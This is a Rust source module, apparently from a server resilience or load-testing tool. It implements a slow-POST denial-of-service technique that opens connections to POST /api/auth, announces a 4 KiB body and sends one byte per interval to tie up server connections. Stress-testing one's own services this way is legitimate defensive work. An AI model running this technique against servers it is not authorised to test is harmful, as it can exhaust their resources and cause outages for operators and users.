//! `slow-body`: each connection starts `POST /api/auth` with a 4 KiB Content-Length and then
//! trickles one body byte per `trickle-interval`, reading whatever the server answers.

use std::sync::Arc;

use tokio::net::TcpStream;

use super::conn::Attack;

/// The announced body: far more bytes than a trickle sends in any bounded phase.
const ANNOUNCED: usize = 4096;

pub(crate) async fn run(attack: &Arc<Attack>) {
    attack.each(connection).await;
}

async fn connection(attack: Arc<Attack>, i: usize) {
    let Some(mut stream) = attack.connect(i).await else {
        return;
    };
    let head = format!(
        "POST /api/auth HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n\
         Content-Length: {ANNOUNCED}\r\n\r\n",
        attack.host
    );
    attack.tally.request_started();
    if !attack.send(&mut stream, head.as_bytes()).await {
        return;
    }
    trickle(&attack, &mut stream).await;
}

/// One byte, then a wait of `trickle-interval` during which the connection is held (and
/// watched for the server's answer or close), until the end or the announced length.
async fn trickle(attack: &Attack, stream: &mut TcpStream) {
    for _ in 0..ANNOUNCED {
        if !attack.send(stream, b" ").await {
            return;
        }
        let waited = tokio::time::timeout(attack.config.trickle_interval, attack.hold(stream));
        match waited.await {
            Err(_) => {}                    // the interval passed: next byte
            Ok(true) | Ok(false) => return, // the end, or the server closed
        }
    }
}
